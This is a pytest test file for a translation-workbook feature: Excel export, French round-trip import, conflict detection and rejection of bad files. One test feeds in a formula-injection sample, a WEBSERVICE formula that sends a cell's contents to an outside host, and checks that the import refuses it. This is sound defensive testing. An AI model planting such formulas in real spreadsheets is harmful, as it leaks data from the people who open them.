"""Translation workbooks: export, fill in, import back; conflicts and bad files leave the library as it was."""

from __future__ import annotations

import argparse
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from briefing.cli.translations import add_translation_commands
from briefing.errors import InterchangeError
from briefing.interchange.library_json import export_document
from briefing.interchange.translation_workbook import (
    FORMAT_NAME,
    META_SHEET,
    export_translations,
    import_translations,
)
from briefing.model import TextBlock, TextStatus, fingerprint
from briefing.model.enums import TranslationState
from briefing.store import Library

MEETING_TEXTS = {
    "drug-trafficking / dt-bg-1 / Contexte": "Internal assessment of the negotiating room.",
    "drug-trafficking / dt-act-1 / Action": "Report on the alliance's first year.",
    "drug-trafficking / dt-act-2 / Action": "Map high-risk criminal networks.",
    "jha-test / Point 2 de l’ordre du jour": "Programme",
    "p-adviser / Fonction": "Adviser",
}


def snapshot(library: Library) -> dict[str, Any]:
    with library.unit_of_work() as uow:
        return export_document(uow)


def rows_of(path: Path) -> dict[str, dict[str, Any]]:
    """The data rows of a translation workbook by context, keyed by column heading."""
    sheet = load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    result = {}
    for number, values in enumerate(sheet.iter_rows(min_row=2, values_only=True), start=2):
        row = dict(zip(header, values, strict=True))
        row["row"] = number
        result[str(row["Context"] if "Context" in row else row["Contexte"])] = row
    return result


def fill(path: Path, translations: dict[str, str | None], out: Path | None = None) -> Path:
    """Type ``translations`` (by context) into the French column of the workbook, as a translator would."""
    book = load_workbook(path)
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    context, french = header.index("Contexte") + 1, header.index("Français") + 1
    for row in range(2, sheet.max_row + 1):
        key = sheet.cell(row=row, column=context).value
        if key in translations:
            sheet.cell(row=row, column=french).value = translations[key]
    target = out or path.with_name("filled.xlsx")
    book.save(target)
    return target


def block_of(library: Library, item_key: str) -> tuple[str, TranslationState, str | None]:
    with library.unit_of_work() as uow:
        item = uow.items.require(item_key)
        assert item.body is not None
        return (
            item.body.text("fr") or "",
            item.body.state("fr"),
            item.body.translations.get("fr") and (item.body.translations["fr"].source_fingerprint),
        )


# --- export ---------------------------------------------------------------------------------------------------


def test_meeting_export_lists_what_needs_french(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    assert export_translations(sample_library, path, meeting="jha-test") == len(MEETING_TEXTS)
    rows = rows_of(path)
    assert {key: row["Anglais"] for key, row in rows.items()} == MEETING_TEXTS
    draft = rows["drug-trafficking / dt-act-2 / Action"]
    assert draft["Français"] == "Cartographier les réseaux criminels à haut risque."
    assert draft["Statut"] == "Brouillon"
    assert rows["drug-trafficking / dt-bg-1 / Contexte"]["Statut"] == "Manquante"
    assert draft["source_fingerprint"] == fingerprint("Map high-risk criminal networks.")
    assert draft["translation_fingerprint"] == fingerprint(
        "Cartographier les réseaux criminels à haut risque."
    )
    assert all(isinstance(row["ID"], int) for row in rows.values())


def test_workbook_layout(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    book = load_workbook(path)
    assert book.sheetnames == ["Traductions", META_SHEET]
    sheet, meta = book.worksheets
    assert meta.sheet_state == "veryHidden"
    info = {row[0]: row[1] for row in meta.iter_rows(values_only=True)}
    assert info["format"] == FORMAT_NAME
    assert info["version"] == 1
    assert info["lang"] == "fr"
    assert info["scope"] == "jha-test"
    assert [c.value for c in sheet[1]] == [
        "ID",
        "Contexte",
        "Anglais",
        "Français",
        "Statut",
        "source_fingerprint",
        "translation_fingerprint",
    ]
    assert sheet.column_dimensions["F"].hidden
    assert sheet.column_dimensions["G"].hidden
    assert sheet.protection.sheet
    assert sheet["D2"].protection.locked is False
    assert sheet["C2"].protection.locked is not False
    assert sheet.freeze_panes == "A2"
    assert sheet.tables["Translations"].ref == f"A1:G{len(MEETING_TEXTS) + 1}"
    assert sheet.oddHeader.center.text == "LIMITE"


def test_library_export_and_nothing_to_do(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "all.xlsx"
    count = export_translations(sample_library, path)
    contexts = set(rows_of(path))
    assert count == len(contexts) == 11
    assert "drug-trafficking / dt-fact-1 / Fait ou chiffre" in contexts  # a draft, outside the meeting
    assert "loose-1 / Action" in contexts
    assert "loose-1 / Responsable" in contexts  # the action's owner, a plain string in the document
    assert "drug-trafficking / dt-ltt-1 / Élément de langage" not in contexts  # already translated
    assert export_translations(sample_library, tmp_path / "en.xlsx", lang="en") == 0
    assert load_workbook(tmp_path / "en.xlsx").worksheets[0].tables["Translations"].ref == "A1:G2"


def test_unknown_language_and_meeting(sample_library: Library, tmp_path: Path) -> None:
    from briefing.errors import BriefingError, NotFoundError

    with pytest.raises(BriefingError, match="Unknown language"):
        export_translations(sample_library, tmp_path / "x.xlsx", lang="de")
    with pytest.raises(NotFoundError):
        export_translations(sample_library, tmp_path / "x.xlsx", meeting="nope")
    assert not (tmp_path / "x.xlsx").exists()


# --- round trip -----------------------------------------------------------------------------------------------


def test_round_trip_saves_translations(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    filled = fill(
        path,
        {
            "drug-trafficking / dt-bg-1 / Contexte": "  Évaluation interne de la marge de négociation.\n",
            "jha-test / Point 2 de l’ordre du jour": "Programme",
        },
    )
    report = import_translations(sample_library, filled)
    assert len(report.imported) == 2
    assert report.unchanged == 1  # the draft left as it was
    assert report.empty == 2
    assert report.conflicts == []
    text, state, source_print = block_of(sample_library, "dt-bg-1")
    assert text == "Évaluation interne de la marge de négociation."
    assert state is TranslationState.TRANSLATED
    assert source_print == fingerprint("Internal assessment of the negotiating room.")
    with sample_library.unit_of_work() as uow:
        meeting = uow.meetings.require("jha-test")
        assert meeting.agenda[1].title.state("fr") is TranslationState.TRANSLATED
        action = uow.actions.require("dt-act-2")
        assert action.text.state("fr") is TranslationState.DRAFT

    again = import_translations(sample_library, filled)
    assert again.imported == [] and again.unchanged == 3 and again.conflicts == []


def test_draft_corrected_by_the_translator_becomes_translated(
    sample_library: Library, tmp_path: Path
) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    filled = fill(path, {"drug-trafficking / dt-act-2 / Action": "Cartographier les réseaux à haut risque."})
    report = import_translations(sample_library, filled)
    assert len(report.imported) == 1
    with sample_library.unit_of_work() as uow:
        block = uow.actions.require("dt-act-2").text
        assert block.text("fr") == "Cartographier les réseaux à haut risque."
        assert block.translations["fr"].status is TextStatus.TRANSLATED


def test_changed_source_is_a_conflict(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    with sample_library.unit_of_work() as uow:
        body = uow.items.require("dt-bg-1").body
        assert body is not None
        body.set_text("en", "A rewritten internal assessment.")
    filled = fill(
        path,
        {
            "drug-trafficking / dt-bg-1 / Contexte": "Évaluation interne.",
            "p-adviser / Fonction": "Conseiller",
        },
    )
    report = import_translations(sample_library, filled)
    assert [(c.reason, c.context) for c in report.conflicts] == [
        ("source_changed", "drug-trafficking / dt-bg-1 / Contexte")
    ]
    assert report.conflicts[0].row == rows_of(path)["drug-trafficking / dt-bg-1 / Contexte"]["row"]
    assert "source text changed" in report.conflicts[0].message().render("en")
    assert len(report.imported) == 1
    assert block_of(sample_library, "dt-bg-1")[0] == ""
    with sample_library.unit_of_work() as uow:
        assert uow.participants.require("p-adviser").function.text("fr") == "Conseiller"


def test_translation_edited_in_the_library_is_a_conflict(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    with sample_library.unit_of_work() as uow:
        uow.actions.require("dt-act-2").text.set_text(
            "fr", "Cartographier les réseaux (revu).", TextStatus.DRAFT
        )
        uow.actions.require("dt-act-1").text.set_text("fr", "Rapport sur la première année.")
    filled = fill(
        path,
        {
            "drug-trafficking / dt-act-2 / Action": "Cartographier les réseaux criminels.",
            "drug-trafficking / dt-act-1 / Action": "Rapport sur la première année.",
        },
    )
    report = import_translations(sample_library, filled)
    assert [c.reason for c in report.conflicts] == ["translation_changed"]
    assert report.imported == []
    assert report.unchanged == 1  # dt-act-1: the translator wrote what the library now says
    assert report.empty == 3
    with sample_library.unit_of_work() as uow:
        assert uow.actions.require("dt-act-2").text.text("fr") == "Cartographier les réseaux (revu)."


def test_untouched_row_is_no_conflict_when_the_library_changed(
    sample_library: Library, tmp_path: Path
) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    with sample_library.unit_of_work() as uow:
        uow.actions.require("dt-act-2").text.set_text("fr", "Nouvelle version dans l’app.")
    report = import_translations(sample_library, path)
    assert report.conflicts == [] and report.imported == []
    with sample_library.unit_of_work() as uow:
        assert uow.actions.require("dt-act-2").text.text("fr") == "Nouvelle version dans l’app."


def test_formula_typed_by_the_translator_is_refused_and_names_the_row(
    sample_library: Library, tmp_path: Path
) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    filled = fill(path, {"p-adviser / Fonction": '=WEBSERVICE("http://example.org/?"&A1)'})
    expect_error(sample_library, filled, "holds a formula", "WEBSERVICE", "cell D")
    with sample_library.unit_of_work() as uow:
        assert uow.participants.require("p-adviser").function.text("fr") != "=WEBSERVICE"


def test_text_that_looks_like_a_formula_is_saved_as_text(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    book = load_workbook(path)
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=header.index("Contexte") + 1).value == "p-adviser / Fonction":
            cell = sheet.cell(row=row, column=header.index("Français") + 1)
            cell.value = '=HYPERLINK("http://x","Conseiller")'
            cell.data_type = "s"  # typed with Excel's quote prefix: a text, not a formula
            cell.quotePrefix = True
    book.save(tmp_path / "filled.xlsx")
    import_translations(sample_library, tmp_path / "filled.xlsx")
    with sample_library.unit_of_work() as uow:
        assert (
            uow.participants.require("p-adviser").function.text("fr") == '=HYPERLINK("http://x","Conseiller")'
        )
    export_translations(sample_library, tmp_path / "again.xlsx")
    with zipfile.ZipFile(tmp_path / "again.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


# --- bad files ------------------------------------------------------------------------------------------------


def expect_error(library: Library, path: Path, *fragments: str) -> None:
    before = snapshot(library)
    with pytest.raises(InterchangeError) as caught:
        import_translations(library, path)
    message = caught.value.message("en")
    for fragment in fragments:
        assert fragment in message
    assert caught.value.message("fr")
    assert snapshot(library) == before


def test_workbook_from_another_tool(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "other.xlsx"
    book = Workbook()
    book.active.append(["ID", "French"])
    book.active.append([1, "Bonjour"])
    book.save(path)
    expect_error(sample_library, path, "is not a Briefing translation workbook")


def test_text_file_renamed_xlsx(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "notes.xlsx"
    path.write_text("ID;French\n1;Bonjour\n", encoding="utf-8")
    expect_error(sample_library, path, "is not an Excel workbook")


def test_truncated_workbook(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(path.read_bytes()[:2000])
    expect_error(sample_library, broken, "is not an Excel workbook")


def test_missing_file(sample_library: Library, tmp_path: Path) -> None:
    expect_error(sample_library, tmp_path / "nowhere.xlsx", "Cannot read")


def test_unknown_id_stops_everything(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    book = load_workbook(path)
    sheet = book.worksheets[0]
    sheet["D2"] = "Évaluation interne."  # a good row before the bad one: not applied either
    sheet["A3"] = 99_999
    sheet["D3"] = "Rapport."
    book.save(tmp_path / "bad.xlsx")
    expect_error(
        sample_library, tmp_path / "bad.xlsx", "sheet “Traductions”, cell A3", "no text with ID 99999"
    )


@pytest.mark.parametrize(
    ("cell", "value", "fragment"),
    [
        ("A2", "abc", "expected the ID of a text"),
        ("F2", "tampered", "hidden cell was changed"),
        ("A3", "=A2", "holds a formula (=A2)"),
    ],
)
def test_bad_cells_are_named(
    sample_library: Library, tmp_path: Path, cell: str, value: str, fragment: str
) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    book = load_workbook(path)
    book.worksheets[0][cell] = value
    book.save(tmp_path / "bad.xlsx")
    expect_error(sample_library, tmp_path / "bad.xlsx", f"cell {cell}", fragment)


def test_duplicate_id(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")
    book = load_workbook(path)
    sheet = book.worksheets[0]
    sheet["A3"] = sheet["A2"].value
    book.save(tmp_path / "bad.xlsx")
    expect_error(sample_library, tmp_path / "bad.xlsx", "cell A3", "already in row 2")


def test_missing_sheet_column_and_newer_version(sample_library: Library, tmp_path: Path) -> None:
    path = tmp_path / "todo.xlsx"
    export_translations(sample_library, path, meeting="jha-test")

    book = load_workbook(path)
    book.worksheets[0].title = "Renamed"
    book.save(tmp_path / "renamed.xlsx")
    expect_error(sample_library, tmp_path / "renamed.xlsx", "sheet “Traductions”", "sheet is missing")

    book = load_workbook(path)
    book.worksheets[0]["D1"] = "Traduction"
    book.save(tmp_path / "column.xlsx")
    expect_error(sample_library, tmp_path / "column.xlsx", "the column “Français” is missing")

    book = load_workbook(path)
    meta = book[META_SHEET]
    for row in meta.iter_rows():
        if row[0].value == "version":
            row[1].value = 2
    book.save(tmp_path / "newer.xlsx")
    expect_error(sample_library, tmp_path / "newer.xlsx", "version 2 is newer")


# --- command line ---------------------------------------------------------------------------------------------


def parser() -> argparse.ArgumentParser:
    top = argparse.ArgumentParser(prog="briefing")
    sub = top.add_subparsers(dest="command")

    def add_db(child: argparse.ArgumentParser) -> None:
        child.add_argument("--db", default=argparse.SUPPRESS)

    add_translation_commands(sub, add_db)
    return top


def test_command_line(
    sample_library: Library, library_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    output = tmp_path / "todo.xlsx"
    args = parser().parse_args(
        ["translations", "export", "jha-test", "--lang", "fr", "-o", str(output), "--db", str(library_path)]
    )
    assert args.handler(args) == 0
    assert "5 texts to translate into fr" in capsys.readouterr().out

    with sample_library.unit_of_work() as uow:
        body = uow.items.require("dt-bg-1").body
        assert isinstance(body, TextBlock)
        body.set_text("en", "Changed.")
    filled = fill(
        output, {"drug-trafficking / dt-bg-1 / Contexte": "Évaluation.", "p-adviser / Fonction": "Conseiller"}
    )
    args = parser().parse_args(["translations", "import", str(filled), "--db", str(library_path)])
    assert args.handler(args) == 1
    out = capsys.readouterr().out
    assert "1 translations saved" in out and "1 conflicts" in out
    assert "dt-bg-1" in out and "source text changed" in out

    library_wide = parser().parse_args(
        ["translations", "export", "-o", str(tmp_path / "all.xlsx"), "--db", str(library_path)]
    )
    assert library_wide.meeting is None and library_wide.lang == "fr"
